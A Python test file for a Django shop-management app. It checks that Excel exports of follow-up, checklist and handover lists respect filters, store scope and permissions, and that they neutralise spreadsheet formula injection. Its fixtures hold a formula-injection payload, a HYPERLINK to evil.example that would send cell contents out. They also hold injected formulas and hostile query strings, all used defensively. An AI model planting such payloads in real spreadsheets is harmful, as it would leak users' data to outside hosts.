"""Excel exports of the follow-up queue, the checklist board (runs with their answers) and the
handover list (with their counts): the page's filter, the page's permission and store scope, and
every cell that a spreadsheet would run as a formula shown as text."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from apps.checklists import services as checklists
from apps.checklists.models import ItemKind
from apps.followups.seeds import rules_seed
from apps.handovers import services as handovers
from tests.factories.checklists import item
from tests.factories.followups import make_customer, make_followup
from tests.factories.handovers import counter, stock_items
from tests.factories.org import web_request

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def sheet(response) -> list[list]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = load_workbook(io.BytesIO(response.content), read_only=True).active.iter_rows(values_only=True)
    return [list(r) for r in rows]


def cells(rows) -> set:
    return {c for r in rows[1:] for c in r}


@pytest.fixture
def queue(organisation, store, store2, aftersales, manager2):
    rules = rules_seed(organisation)
    due = timezone.localdate() - dt.timedelta(days=4)
    mine = make_followup(
        rules["first-call-pickup"], make_customer(store, name=HOSTILE, owner=aftersales), trigger_date=due
    )
    quiet = make_followup(
        rules["first-call-pickup"], make_customer(store, name="李女士", owner=aftersales), trigger_date=due
    )
    theirs = make_followup(
        rules["first-call-pickup"], make_customer(store2, name="赵先生", owner=manager2), trigger_date=due
    )
    return mine, quiet, theirs


def test_the_follow_up_export_is_the_queue_as_shown_and_formula_safe(client_for, queue, aftersales):
    url = reverse("followups:export")
    rows = sheet(client_for(aftersales).get(url))
    names = [r[0] for r in rows[1:]]
    assert "'" + HOSTILE in names and "李女士" in names and HOSTILE not in names
    assert "赵先生" not in names  # another store's
    rows = sheet(client_for(aftersales).get(url, {"q": "李"}))
    assert [r[0] for r in rows[1:]] == ["李女士"]


def test_the_follow_up_export_keeps_to_the_managers_store_and_refuses_clerks(
    client_for, queue, manager2, clerk
):
    names = [r[0] for r in sheet(client_for(manager2).get(reverse("followups:export"), {"scope": "all"}))[1:]]
    assert names == ["赵先生"]
    assert client_for(clerk).get(reverse("followups:export")).status_code == 403


def test_the_follow_up_queue_links_its_export_with_its_filter(client_for, queue, aftersales):
    page = (
        client_for(aftersales)
        .get(reverse("followups:list"), {"section": "today", "q": "李"})
        .content.decode()
    )
    assert reverse("followups:export") + "?section=today&amp;q=%E6%9D%8E" in page


def test_the_checklist_export_has_one_row_per_answer_formula_safe_in_the_managers_store(
    client_for, run, template, clerk, manager, manager2
):
    checklists.item_answer(run=run, item=item(template, ItemKind.TICK), user=clerk, ok=False, note="=1+2")
    checklists.item_answer(
        run=run, item=item(template, ItemKind.NUMBER), user=clerk, ok=True, value_number=Decimal(2000)
    )
    rows = sheet(client_for(manager).get(reverse("checklists:board_export")))
    assert len(rows[0]) == 11
    answers = {r[5]: r for r in rows[1:]}
    assert answers["发票、客户资料准备齐全"][8] == "'=1+2"
    assert (
        answers["找零备用金金额"][6] in ("是", "yes")
        and answers["找零备用金金额"][6] != answers["发票、客户资料准备齐全"][6]
    )
    assert "=1+2" not in cells(rows)
    # The board's filter: another state shows none of it; another store's manager sees none of it.
    assert len(sheet(client_for(manager).get(reverse("checklists:board_export"), {"state": "done"}))) == 1
    assert len(sheet(client_for(manager2).get(reverse("checklists:board_export")))) == 1
    assert client_for(clerk).get(reverse("checklists:board_export")).status_code == 403


@pytest.fixture
def signed(store, clerk, clerk2, manager, settings):
    desk = counter(store)
    items = stock_items(store.organisation)
    handovers.balance_set(store=store, counter=desk, item=items["sim"], quantity=Decimal(50), user=manager)
    h = handovers.handover_start(store=store, counter=desk, outgoing=clerk, incoming=clerk2)
    for line in h.lines.select_related("item"):
        counted = Decimal(48) if line.item.code == "sim" else line.expected
        handovers.handover_line_save(line=line, user=clerk, counted=counted, explanation="@SUM(A1:A9)")
    return handovers.handover_sign(
        request=web_request(), handover=h, user=clerk, password=settings.DEMO_PASSWORD
    )


def test_the_handover_export_has_the_counts_formula_safe_in_the_store_of_the_person(
    client_for, signed, clerk, manager2, aftersales
):
    rows = sheet(client_for(clerk).get(reverse("handovers:export")))
    lines = {r[9]: r for r in rows[1:]}
    assert {r[0] for r in rows[1:]} == {signed.pk}
    sim = lines["SIM 卡"]
    assert (sim[10], sim[11], sim[12], sim[13]) == (50, 48, -2, "'@SUM(A1:A9)")
    assert len(sheet(client_for(clerk).get(reverse("handovers:export"), {"state": "accepted"}))) == 1
    assert len(sheet(client_for(manager2).get(reverse("handovers:export")))) == 1
    assert client_for(aftersales).get(reverse("handovers:export")).status_code == 403


def test_every_list_page_links_its_export(client_for, signed, clerk, manager):
    assert reverse("handovers:export") in client_for(clerk).get(reverse("handovers:list")).content.decode()
    assert (
        reverse("checklists:board_export")
        in client_for(manager).get(reverse("checklists:board")).content.decode()
    )


@pytest.mark.parametrize(
    ("route", "query"),
    [
        ("followups:export", {"section": "<script>", "scope": "\x00", "q": "'" * 500}),
        ("checklists:board_export", {"date_from": "2026-13-45", "store": "abc", "person": "-1"}),
        ("handovers:export", {"state": "x" * 300, "date_to": "yesterday", "store": "9999999"}),
    ],
)
def test_hostile_filters_never_answer_500(client_for, manager, route, query):
    assert client_for(manager).get(reverse(route), query).status_code in (200, 400)
